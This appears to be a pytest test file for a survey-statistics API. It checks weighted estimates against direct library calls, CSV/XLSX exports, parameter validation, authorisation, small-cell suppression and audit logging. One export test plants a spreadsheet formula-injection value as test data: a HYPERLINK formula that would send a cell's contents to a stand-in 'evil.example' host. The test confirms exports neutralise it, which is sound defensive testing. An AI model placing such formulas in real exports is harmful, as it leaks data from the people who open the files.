"""Estimates through the API: equal to weighting called directly, formats, errors, quality."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

import weighting
from survey_app.accounts.models import AuditEvent
from survey_app.analysis.models import ResponseWeight
from survey_app.analysis.services.estimates import quality
from survey_app.fieldwork.models import FrameUnit, Invitation, SampleUnit
from survey_app.respond.models import Response, ResponseStatus

from ..api_world import bearer, build, spec_with_draw

MARGINS = {"sex": {"1": 4900.0, "2": 5100.0}}


@pytest.fixture
def computed(app, client):
    world = build(app)
    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec_with_draw(world)}, headers=bearer(world.token))
    run = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token))
    assert run.status_code == 201, run.json
    return world, scheme.json["id"], run.json["id"]


def _get(client, world, scheme_id, token=None, **params):
    query = "&".join(f"{k}={v}" for k, v in {"scheme": scheme_id, **params}.items())
    return client.get(f"/api/v1/surveys/{world.project_id}/estimates/?{query}", headers=bearer(token or world.token))


def _direct_design(session, world):
    """The same data read straight from the tables, weighted with `weighting` directly."""
    rows = session.execute(
        select(SampleUnit.stratum, SampleUnit.stratum_population, SampleUnit.design_weight, FrameUnit.attributes,
               Invitation.status, Response.id, Response.status, Response.answers)
        .join(FrameUnit, FrameUnit.id == SampleUnit.frame_unit_id)
        .join(Invitation, Invitation.sample_unit_id == SampleUnit.id)
        .outerjoin(Response, Response.sample_unit_id == SampleUnit.id)
        .where(SampleUnit.draw_id == world.draw_id)
    ).all()
    frame = pd.DataFrame({
        "stratum": [r[0] for r in rows],
        "fpc": [float(r[1]) for r in rows],
        "w": [r[2] for r in rows],
        "county": [r[3]["county"] for r in rows],
        "sex": [r[3]["sex"] for r in rows],
        "disposition": [
            "respondent" if r[6] == ResponseStatus.COMPLETE else "unknown" if r[4].value == "not_reached" else "nonrespondent"
            for r in rows
        ],
        "response_id": [r[5] if r[6] == ResponseStatus.COMPLETE else None for r in rows],
        "i01": [float(r[7]["i01"]) if r[6] == ResponseStatus.COMPLETE and r[7].get("i01") is not None else np.nan for r in rows],
        "overall": [float(r[7]["overall"]) if r[6] == ResponseStatus.COMPLETE and r[7].get("overall") is not None else np.nan for r in rows],
    })
    sampled = weighting.Design(frame, weights="w", strata="stratum", fpc="fpc").adjust_nonresponse("disposition", "stratum")
    respondents = (frame["disposition"] == "respondent").to_numpy()
    data = frame.loc[respondents].assign(w=sampled.weights[respondents]).reset_index(drop=True)
    return weighting.Design(data, weights="w", strata="stratum", fpc="fpc").rake(MARGINS).trim(upper=400), data


def test_end_to_end_estimates_equal_weighting_called_directly(client, session, computed):
    world, scheme_id, run_id = computed
    design, data = _direct_design(session, world)

    stored = dict(session.execute(select(ResponseWeight.response_id, ResponseWeight.weight).where(ResponseWeight.run_id == run_id)).all())
    direct = dict(zip(data["response_id"].astype(int), design.weights, strict=True))
    assert stored.keys() == direct.keys()
    assert np.allclose([stored[k] for k in direct], list(direct.values()), rtol=1e-10)

    api = _get(client, world, scheme_id, variables="i01,overall", statistic="mean", by="county")
    assert api.status_code == 200, api.json
    expected = design.mean(["i01", "overall"], by="county")
    got = pd.DataFrame([{**r["by"], **r} for r in api.json["rows"]])
    merged = expected.merge(got, on=["county", "variable"], suffixes=("_w", "_api"))
    assert len(merged) == len(expected) == 6
    for column in ("estimate", "se", "ci_low", "ci_high", "df", "deff", "cv"):
        assert np.allclose(merged[f"{column}_w"], merged[f"{column}_api"], rtol=1e-9), column
    assert (merged["n_w"] == merged["n_api"]).all()

    api = _get(client, world, scheme_id, variables="overall", statistic="proportion", ci_method="beta", level=0.9)
    expected = design.proportion("overall", ci="beta", level=0.9)
    expected["category"] = expected["category"].map(lambda c: str(int(float(c))))
    got = pd.DataFrame(api.json["rows"])
    merged = expected.merge(got, on="category", suffixes=("_w", "_api"))
    assert len(merged) == 5
    published = merged[~merged["suppressed"]]
    assert np.allclose(published["estimate_w"], published["estimate_api"], rtol=1e-9)
    assert np.allclose(published["ci_low_w"], published["ci_low_api"], rtol=1e-9)
    assert api.json["ci_method"] == "beta" and api.json["level"] == 0.9


def test_satisfaction_scales(client, session, computed):
    world, scheme_id, _ = computed
    design, data = _direct_design(session, world)
    raw = _get(client, world, scheme_id, variables="i01").json["rows"][0]
    score = _get(client, world, scheme_id, variables="i01", scale="score100").json["rows"][0]
    assert score["estimate"] == pytest.approx((raw["estimate"] - 1) / 4 * 100, rel=1e-9)
    assert score["se"] == pytest.approx(raw["se"] * 25, rel=1e-9)
    share = _get(client, world, scheme_id, variables="i01", scale="satisfied", statistic="proportion").json["rows"][0]
    x = data["i01"].to_numpy()
    known = ~np.isnan(x)
    assert share["estimate"] == pytest.approx(design.weights[known & (x >= 4)].sum() / design.weights[known].sum(), rel=1e-9)
    assert share["n"] == int(known.sum())  # "don't know" is missing, not a midpoint
    assert share["category"] is None and share["scale"] == "satisfied"


def test_csv_and_xlsx_read_back_equal_the_json(client, computed):
    world, scheme_id, _ = computed
    params = {"variables": "i01,overall", "by": "county", "statistic": "mean"}
    rows = pd.DataFrame([{**r["by"], **r} for r in _get(client, world, scheme_id, **params).json["rows"]]).drop(columns=["by"])
    csv = _get(client, world, scheme_id, format="csv", **params)
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert csv.data.startswith(b"\xef\xbb\xbf")
    assert 'filename="sat-2026-mean-estimates.csv"' in csv.headers["Content-Disposition"]
    from_csv = pd.read_csv(io.BytesIO(csv.data), encoding="utf-8-sig", dtype={"county": str})
    xlsx = _get(client, world, scheme_id, format="xlsx", **params)
    assert xlsx.mimetype.endswith("spreadsheetml.sheet")
    book = pd.read_excel(io.BytesIO(xlsx.data), sheet_name=None)
    assert set(book) == {"estimates", "about"}
    for table in (from_csv, book["estimates"]):
        assert list(table["county"]) == list(rows["county"])
        assert list(table["variable"]) == list(rows["variable"])
        for column in ("estimate", "se", "ci_low", "ci_high", "df", "n", "deff", "cv"):
            assert np.allclose(table[column].astype(float), rows[column].astype(float), rtol=1e-8), column
    assert "sat-2026" in book["about"]["value"].tolist()


@pytest.mark.parametrize(
    ("params", "status", "needle"),
    [
        ({"variables": "nope"}, 422, "Unknown variable 'nope'"),
        ({"variables": "suggestion"}, 422, "not valid for text variable 'suggestion'"),
        ({"variables": "phone"}, 422, "Unknown variable 'phone'"),
        ({"variables": "full_name", "statistic": "proportion"}, 422, "Unknown variable 'full_name'"),
        ({"variables": "county", "statistic": "mean"}, 422, "not valid for categorical variable 'county'"),
        ({"variables": "i01", "by": "income"}, 422, "cannot define domains"),
        ({"variables": "income", "scale": "score100"}, 422, "needs a rating item"),
        ({"variables": "i01", "statistic": "ratio"}, 422, "needs a denominator"),
        ({"variables": "i01", "statistic": "median"}, 422, "Must be one of"),
        ({"variables": "i01", "level": "1.5"}, 422, "level"),
        ({"variables": "i01", "ci_method": "wilson"}, 422, "t interval"),
    ],
)
def test_bad_parameters_are_4xx_with_a_clear_message(client, computed, params, status, needle):
    world, scheme_id, _ = computed
    response = _get(client, world, scheme_id, **params)
    assert response.status_code == status, response.json
    assert response.json["error"] == "validation_failed"
    assert needle in response.json["message"] or needle in str(response.json.get("errors"))


def test_missing_scheme_and_unknown_scheme(client, computed):
    world, scheme_id, _ = computed
    response = client.get(f"/api/v1/surveys/{world.project_id}/estimates/?variables=i01", headers=bearer(world.token))
    assert response.status_code == 422 and "scheme" in str(response.json["errors"])
    assert _get(client, world, 999, variables="i01").status_code == 404


def test_uncomputed_scheme_and_changed_data_are_409(client, session, computed):
    world, scheme_id, _ = computed
    other = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "later", "spec": spec_with_draw(world)}, headers=bearer(world.token))
    response = _get(client, world, other.json["id"], variables="i01")
    assert response.status_code == 409 and "has not been computed" in response.json["message"]
    partial = session.scalars(select(Response).where(Response.status == ResponseStatus.PARTIAL)).first()
    partial.status = ResponseStatus.COMPLETE
    session.commit()
    response = _get(client, world, scheme_id, variables="i01")
    assert response.status_code == 409 and "changed since" in response.json["message"]


def test_without_version_the_latest_computed_version_is_used(client, computed):
    """Issue #20: a new, uncomputed version made every estimate without ``version=`` a 409."""
    world, scheme_id, run_id = computed
    added = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme_id}/versions", json={"spec": spec_with_draw(world)},
                        headers=bearer(world.token))
    assert added.status_code == 201 and added.json["number"] == 2
    response = _get(client, world, scheme_id, variables="i01")
    assert response.status_code == 200, response.json
    assert response.json["scheme"]["version"] == 1 and response.json["scheme"]["run_id"] == run_id
    asked = _get(client, world, scheme_id, variables="i01", version=2)
    assert asked.status_code == 409 and "version 2 has not been computed" in asked.json["message"]
    computed_later = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme_id}/versions/2/compute", headers=bearer(world.token))
    assert computed_later.status_code == 201
    assert _get(client, world, scheme_id, variables="i01").json["scheme"]["version"] == 2


def test_auth_failures(client, computed):
    world, scheme_id, _ = computed
    url = f"/api/v1/surveys/{world.project_id}/estimates/?scheme={scheme_id}&variables=i01"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=bearer(world.other_token)).status_code == 403


def test_small_cells_are_suppressed_without_values_and_reads_audited(client, session, computed):
    world, scheme_id, _ = computed
    response = _get(client, world, scheme_id, variables="overall", statistic="proportion", by="county,sex")
    rows = response.json["rows"]
    suppressed = [r for r in rows if r["suppressed"]]
    assert suppressed, "cells of 20-50 respondents per county x sex must fail the NCHS rules somewhere"
    for row in suppressed:
        assert row["quality"] == "suppress" and row["flags"]
        assert row["estimate"] is None and row["se"] is None and row["ci_low"] is None and row["cv"] is None
    for row in rows:
        if row["n"] is not None:
            assert row["n"] >= 5
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "api.read").order_by(AuditEvent.id.desc())).first()
    assert event.details["endpoint"] == "estimates"
    assert event.details["parameters"]["by"] == ["county", "sex"]
    assert event.actor_label == "stat@example.org"


def test_quality_rules_by_hand():
    table = pd.DataFrame({
        "estimate": [0.5, 0.5, 0.05, 10.0, 10.0, 10.0, 0.5],
        "se": [0.02, 0.2, 0.02, 1.0, 2.0, 4.0, 0.02],
        "ci_low": [0.46, 0.1, 0.01, 8.0, 6.0, 2.0, 0.46],
        "ci_high": [0.54, 0.9, 0.09, 12.0, 14.0, 18.0, 0.54],
        "df": [100.0, 100.0, 5.0, 100.0, 100.0, 100.0, 100.0],
        "n": [400, 400, 400, 100, 100, 100, 4],
        "deff": [1.0] * 7,
        "cv": [0.04, 0.4, 0.4, 0.1, 0.2, 0.4, 0.04],
    })
    p = quality(table.iloc[[0, 1, 2, 6]].reset_index(drop=True), "proportion")
    assert p["quality"].tolist() == ["publish", "suppress", "caution", "suppress"]
    assert "ci_width_at_least_0.30" in p["flags"][1]
    assert set(p["flags"][2]) == {"df_below_8", "relative_ci_width_above_130pct"}
    assert p["flags"][3][0] == "count_below_5" and pd.isna(p["n"][3]) and np.isnan(p["estimate"][3])
    m = quality(table.iloc[[3, 4, 5]].reset_index(drop=True), "mean")
    assert m["quality"].tolist() == ["publish", "caution", "suppress"]
    assert np.isnan(m["estimate"][2]) and m["estimate"][1] == 10.0


def test_csv_and_xlsx_keep_formula_looking_domains_as_text_and_numbers_as_numbers(app, client, session):
    world = build(app)
    levels = {"15_34": '=HYPERLINK("http://evil.example/?d="&A1,"open")', "35_65": "-2+3"}
    for unit in session.scalars(select(FrameUnit)):
        unit.attributes = {**unit.attributes, "age_group": levels[unit.attributes["age_group"]]}
    session.commit()
    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec_with_draw(world)}, headers=bearer(world.token))
    run = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token))
    assert run.status_code == 201, run.json
    params = {"variables": "overall", "by": "age_group", "statistic": "proportion"}
    rows = _get(client, world, scheme.json["id"], **params).json["rows"]
    assert {r["by"]["age_group"] for r in rows} == set(levels.values())  # the JSON keeps the values as they are
    csv = pd.read_csv(io.BytesIO(_get(client, world, scheme.json["id"], format="csv", **params).data), encoding="utf-8-sig")
    book = load_workbook(io.BytesIO(_get(client, world, scheme.json["id"], format="xlsx", **params).data))
    sheet = pd.DataFrame(list(book["estimates"].values)[1:], columns=next(book["estimates"].values))
    for table in (csv, sheet):
        assert set(table["age_group"]) == {"'" + v for v in levels.values()}
        assert table["age_group"].str.removeprefix("'").tolist() == [r["by"]["age_group"] for r in rows]
        for column in ("estimate", "se", "ci_low", "ci_high", "n"):
            assert pd.api.types.is_numeric_dtype(table[column]), column
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)


def test_xlsx_of_domains_with_control_characters(app, client, session):
    world = build(app)
    levels = {"15_34": "15\x0b34", "35_65": "35\x0265"}
    for unit in session.scalars(select(FrameUnit)):
        unit.attributes = {**unit.attributes, "age_group": levels[unit.attributes["age_group"]]}
    session.commit()
    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec_with_draw(world)}, headers=bearer(world.token))
    assert client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token)).status_code == 201
    xlsx = _get(client, world, scheme.json["id"], variables="overall", by="age_group", statistic="proportion", format="xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.data))["estimates"]
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"15\ufffd34", "35\ufffd65"}
